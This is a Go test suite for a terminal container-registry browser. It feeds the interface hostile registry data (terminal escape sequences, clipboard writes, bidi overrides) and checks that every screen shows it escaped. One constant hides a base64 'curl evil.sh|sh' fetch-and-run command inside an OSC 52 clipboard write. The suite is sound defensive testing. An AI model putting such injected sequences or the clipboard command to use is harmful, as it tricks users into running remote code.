package ui

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/remote/transport"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/manifold-dev/manifold/internal/faultproxy"
	"github.com/manifold-dev/manifold/internal/stagestore"
	"github.com/manifold-dev/manifold/internal/testregistry"
	"github.com/manifold-dev/manifold/model"
	"github.com/manifold-dev/manifold/registry"
	"github.com/manifold-dev/manifold/themes"
	"github.com/manifold-dev/manifold/ui/common"
	"github.com/manifold-dev/manifold/ui/internal/uitest"
	"github.com/manifold-dev/manifold/ui/keys"
	"github.com/manifold-dev/manifold/ui/pages/login"
	"github.com/manifold-dev/manifold/ui/pages/raw"
	"github.com/manifold-dev/manifold/ui/pages/resolve"
	"github.com/manifold-dev/manifold/ui/pages/staging"
	"github.com/manifold-dev/manifold/ui/pages/tags"
	"github.com/manifold-dev/manifold/ui/pages/tree"
	"github.com/manifold-dev/manifold/ui/styles"
)

// Hostile text a registry could send: OSC 52 clipboard write, OSC 0 title,
// a screen clear, BEL, a C1 CSI and a bidi override.
const (
	hOSC52   = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
	hTitle   = "\x1b]0;owned\x1b\\"
	hCSI     = "\x1b[2J\x1b[H"
	hHostile = hOSC52 + hTitle + hCSI + "\a" + "\u009b31m" + "\u202egnp.exe"
)

// hostileEnv is a real registry (distribution, in-process) behind a fault
// proxy, holding app:v1, an index whose annotations, entry annotations and
// image configs (labels, author, history) carry hostile text. The proxy
// answers the catalog and the tag list with hostile names, as a malicious
// registry would (distribution itself refuses such names).
type hostileEnv struct {
	proxy  *faultproxy.Proxy
	host   string
	client *registry.Client
}

func newHostileEnv(t *testing.T) *hostileEnv {
	t.Helper()
	t.Setenv("DOCKER_CONFIG", t.TempDir())
	p := faultproxy.New()
	reg := testregistry.Start(t, testregistry.Options{Wrap: p.Wrap})
	var adds []mutate.IndexAddendum
	for _, arch := range []string{"amd64", "arm64"} {
		img, err := random.Image(128, 1)
		if err != nil {
			t.Fatal(err)
		}
		img = mutate.MediaType(img, types.OCIManifestSchema1)
		img = mutate.ConfigMediaType(img, types.OCIConfigJSON)
		cf, err := img.ConfigFile()
		if err != nil {
			t.Fatal(err)
		}
		cf = cf.DeepCopy()
		cf.OS, cf.Architecture = "linux", arch
		cf.Author = "mallory" + hHostile
		cf.Config.Labels = map[string]string{"evil" + hCSI: hHostile}
		cf.Config.Env = []string{"PATH=/bin" + hOSC52}
		cf.History = []v1.History{{CreatedBy: "RUN echo " + hHostile}}
		if img, err = mutate.ConfigFile(img, cf); err != nil {
			t.Fatal(err)
		}
		img = mutate.Annotations(img, map[string]string{"note": hHostile}).(v1.Image)
		adds = append(adds, mutate.IndexAddendum{Add: img, Descriptor: v1.Descriptor{
			Platform:    &v1.Platform{OS: "linux", Architecture: arch, OSVersion: "1.0" + hCSI, OSFeatures: []string{"f" + hCSI}},
			Annotations: map[string]string{"org.opencontainers.image.description": hHostile},
		}})
	}
	idx := mutate.IndexMediaType(mutate.AppendManifests(empty.Index, adds...), types.OCIImageIndex)
	idx = mutate.Annotations(idx, map[string]string{"org.opencontainers.image.title": hTitle + "title", "evil" + hOSC52: hHostile}).(v1.ImageIndex)
	ref, _ := name.ParseReference(reg.Ref("app:v1"))
	if err := remote.WriteIndex(ref, idx); err != nil {
		t.Fatal(err)
	}
	c, err := registry.New(registry.Options{Keychain: authn.NewMultiKeychain()})
	if err != nil {
		t.Fatal(err)
	}
	return &hostileEnv{proxy: p, host: reg.Host, client: c}
}

// assertScreenSafe fails when a rendered screen holds anything a registry
// could have smuggled in: OSC sequences, BEL, C1 controls, bidi overrides,
// the hostile screen clear, or any C0 control other than the ESC of
// manifold's own SGR styling and newlines.
func assertScreenSafe(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%s: screen is not valid UTF-8", what)
	}
	for _, bad := range []string{"\x1b]", "\x1b[2J", "\x1b[H", "\a", "\u009b", "\u202e"} {
		if strings.Contains(out, bad) {
			t.Fatalf("%s: screen holds %q:\n%q", what, bad, out)
		}
	}
	for i := 0; i < len(out); i++ {
		c := out[i]
		if c == '\n' {
			continue
		}
		if c == 0x1b {
			// manifold's own styling: CSI … m only.
			j := i + 1
			if j >= len(out) || out[j] != '[' {
				t.Fatalf("%s: bare ESC at %d: %q", what, i, out[max(0, i-20):min(len(out), i+20)])
			}
			for j++; j < len(out) && (out[j] >= '0' && out[j] <= '9' || out[j] == ';' || out[j] == ':'); j++ {
			}
			if j >= len(out) || out[j] != 'm' {
				t.Fatalf("%s: non-SGR escape at %d: %q", what, i, out[i:min(len(out), j+1)])
			}
			i = j
			continue
		}
		if c < 0x20 || c == 0x7f {
			t.Fatalf("%s: control byte %#x at %d", what, c, i)
		}
	}
}

func TestHostileEveryScreen(t *testing.T) {
	env := newHostileEnv(t)
	tagList, _ := json.Marshal(map[string]any{"name": "app", "tags": []string{"v1", "x" + hOSC52, "y" + hCSI + "\a", "z\u202egnp"}})
	repos, _ := json.Marshal(map[string]any{"repositories": []string{"app", "evil" + hTitle, "b\u009b2J"}})
	env.proxy.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Catalog, Body: repos, MediaType: "application/json"})

	for _, colour := range []bool{false, true} {
		hs := newHarness(t, env.client, env.host, 100, 40, func(o *common.Options) { o.NoColor = !colour })
		screen := func(what string) string {
			t.Helper()
			out := hs.m.View().Content
			assertScreenSafe(t, what, out)
			return hs.screen()
		}
		s := screen("repositories")
		if !strings.Contains(s, `evil\x1b]0;owned\x1b\`) {
			t.Fatalf("hostile repository not shown escaped:\n%s", s)
		}
		hs.keys("?")
		screen("help")
		hs.keys("?")

		env.proxy.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Tags, Body: tagList, MediaType: "application/json"})
		hs.keys("/")
		hs.typeText("app")
		hs.keys("enter", "enter")
		s = screen("tags")
		if _, ok := hs.m.top().(*tags.Model); !ok {
			t.Fatalf("tags page not open: %T\n%s", hs.m.top(), s)
		}
		if !strings.Contains(s, `x\x1b]52;c;`) {
			t.Fatalf("hostile tag not shown escaped:\n%s", s)
		}
		env.proxy.Clear()
		env.proxy.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Catalog, Body: repos, MediaType: "application/json"})

		hs.keys(":")
		hs.typeText(env.host + "/app:v1")
		hs.keys("enter")
		s = screen("tree")
		if _, ok := hs.m.top().(*tree.Model); !ok {
			t.Fatalf("tree not open: %T\n%s", hs.m.top(), s)
		}
		if !strings.Contains(s, `linux/arm64:1.0\x1b[2J\x1b[H`) {
			t.Fatalf("hostile os.version not shown escaped in the tree:\n%s", s)
		}
		hs.keys("e")
		screen("tree expanded")
		// The details pane is on by default at this width: walk every row
		// with it open, and require that the config fields (author, labels,
		// env) were rendered, escaped, on at least one of them.
		if !hs.m.top().(*tree.Model).DetailsShown() {
			hs.keys("d")
		}
		var seen string
		for range 12 {
			seen += screen("tree details")
			hs.keys("j")
		}
		for _, want := range []string{"author: mallory", `label evil\x1b[2J`, "env: PATH=/bin"} {
			if !strings.Contains(seen, want) {
				t.Fatalf("details pane never showed %q (config fields not rendered?):\n%s", want, seen)
			}
		}
		hs.keys("d")
		screen("tree without details")
		hs.keys("d")
		hs.keys("v")
		s = screen("raw")
		if _, ok := hs.m.top().(*raw.Model); !ok {
			t.Fatalf("raw view not open: %T\n%s", hs.m.top(), s)
		}
		for range 3 {
			hs.keys("pgdown")
			screen("raw scrolled")
		}
		hs.keys("esc")
		hs.keys("m")
		s = screen("resolve matrix")
		if _, ok := hs.m.top().(*resolve.Model); !ok {
			t.Fatalf("resolve matrix not open: %T\n%s", hs.m.top(), s)
		}
		hs.keys("esc")
		screen("back")
	}
}

// TestHostileStagingScreens stages an entry whose annotations are hostile
// and walks the staging screens: the pane, the entry and index annotation
// dialogs, the platform form and the push review.
func TestHostileStagingScreens(t *testing.T) {
	env := newHostileEnv(t)
	st, err := stagestore.OpenDir(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}

	for _, colour := range []bool{false, true} {
		hs := newHarness(t, env.client, env.host+"/app:v1", 100, 40, func(o *common.Options) { o.NoColor = !colour }, uitest.WithStore(st), uitest.SteadyCursor)
		screen := func(what string) string {
			t.Helper()
			assertScreenSafe(t, what, hs.m.View().Content)
			return hs.screen()
		}
		tp, ok := hs.m.top().(*tree.Model)
		if !ok || tp.Tree() == nil {
			t.Fatalf("start page %T:\n%s", hs.m.top(), hs.screen())
		}
		for i := 0; i < 6 && (tp.Selected() == nil || tp.Selected().Entry == nil); i++ {
			hs.keys("j")
		}
		if tp.Selected() == nil || tp.Selected().Entry == nil {
			t.Fatalf("no entry row:\n%s", hs.screen())
		}
		hs.keys("a")
		sp, ok := hs.m.top().(*staging.Model)
		if !ok {
			t.Fatalf("a did not open staging: %T\n%s", hs.m.top(), hs.screen())
		}
		if sp.List() == nil {
			screen("new list")
			sp.SetInput(env.host + "/app:multi")
			hs.keys("enter")
		}
		if sp.List() == nil || len(sp.List().Entries) == 0 || sp.List().Entries[0].Annotations["org.opencontainers.image.description"] != hHostile {
			t.Fatalf("staged %+v\n%s", sp.List(), hs.screen())
		}
		staged, _ := json.Marshal(sp.List())
		screen("staging pane")
		hs.keys("A")
		if s := screen("entry annotations"); !strings.Contains(s, `org.opencontainers.image.description=\x1b]52;c;`) {
			t.Fatalf("entry annotation dialog does not show the hostile value escaped:\n%s", s)
		}
		hs.keys("esc")
		hs.keys("e")
		screen("platform form")
		hs.keys("esc")
		hs.keys("I")
		screen("index annotations")
		hs.keys("esc")
		hs.keys("P")
		screen("push review")
		hs.keys("esc")
		screen("after review")
		if now, _ := json.Marshal(sp.List()); string(now) != string(staged) {
			t.Fatalf("walking the screens changed the staged list:\n%s\n%s", staged, now)
		}
		// Fresh start for the colour pass.
		if err := st.Discard(env.host + "/app:multi"); err != nil {
			t.Fatal(err)
		}
	}
}

// TestHostileLoginScreen: a 401 whose error body and a login failure whose
// text are hostile reach the login prompt and the status line escaped.
func TestHostileLoginScreen(t *testing.T) {
	f := uitest.NewFake()
	f.Errs["localhost:5000/app:1.0"] = &registry.StatusError{What: "fake request", Status: http.StatusUnauthorized, Err: &transport.Error{StatusCode: http.StatusUnauthorized,
		Errors: []transport.Diagnostic{{Code: transport.UnauthorizedErrorCode, Message: "denied" + hHostile}}}}
	hs := newHarness(t, f, "localhost:5000/app:1.0", 100, 30, func(o *common.Options) {
		o.Login = func(host, _, user, secret string) (common.Registry, error) {
			return nil, errors.New("registry said: " + hHostile)
		}
	})
	if _, ok := hs.m.top().(*login.Model); !ok {
		t.Fatalf("a 401 should open the login prompt, at %T", hs.m.top())
	}
	assertScreenSafe(t, "login", hs.m.View().Content)
	hs.typeText("bob")
	hs.keys("tab")
	hs.typeText("pw-s3cret")
	hs.keys("enter")
	out := hs.m.View().Content
	assertScreenSafe(t, "login failed", out)
	// The reason is wrapped, not cut: compare with the lines joined.
	if s := hs.screen(); !strings.Contains(strings.Join(strings.Fields(s), " "), `Login failed: registry said: \x1b]52;c;`) || strings.Contains(s, "pw-s3cret") {
		t.Fatalf("login failure not shown escaped, or the password shown:\n%s", s)
	}
}

// TestHostileAttestationDigest: the digest an attestation names is an
// annotation, so a registry can put anything in it; the staging pane and
// the tree's short digests show it escaped, and never cut a character in
// half.
func TestHostileAttestationDigest(t *testing.T) {
	c := &common.Common{Ctx: context.Background(), Styles: styles.New(themes.Dark), Keys: keys.Default(), Opts: &common.Options{}, Pages: pages()}
	for _, bad := range []string{"sha256:" + hCSI + hOSC52, "sha256:\x07" + hTitle + "aaaaaaaaaaaa", "sha256:éééééééééééé", "x:\u202e12345678901234"} {
		l := uitest.GoldenList()
		l.Entries[1].Annotations[model.AnnotationReferenceDigest] = bad
		p := staging.New(c)
		p.SetSize(100, 20)
		p.SetList(l)
		assertScreenSafe(t, "staging pane with a hostile attestation digest", p.View())
		assertScreenSafe(t, "shortDigest", common.ShortDigest(bad))
	}
}
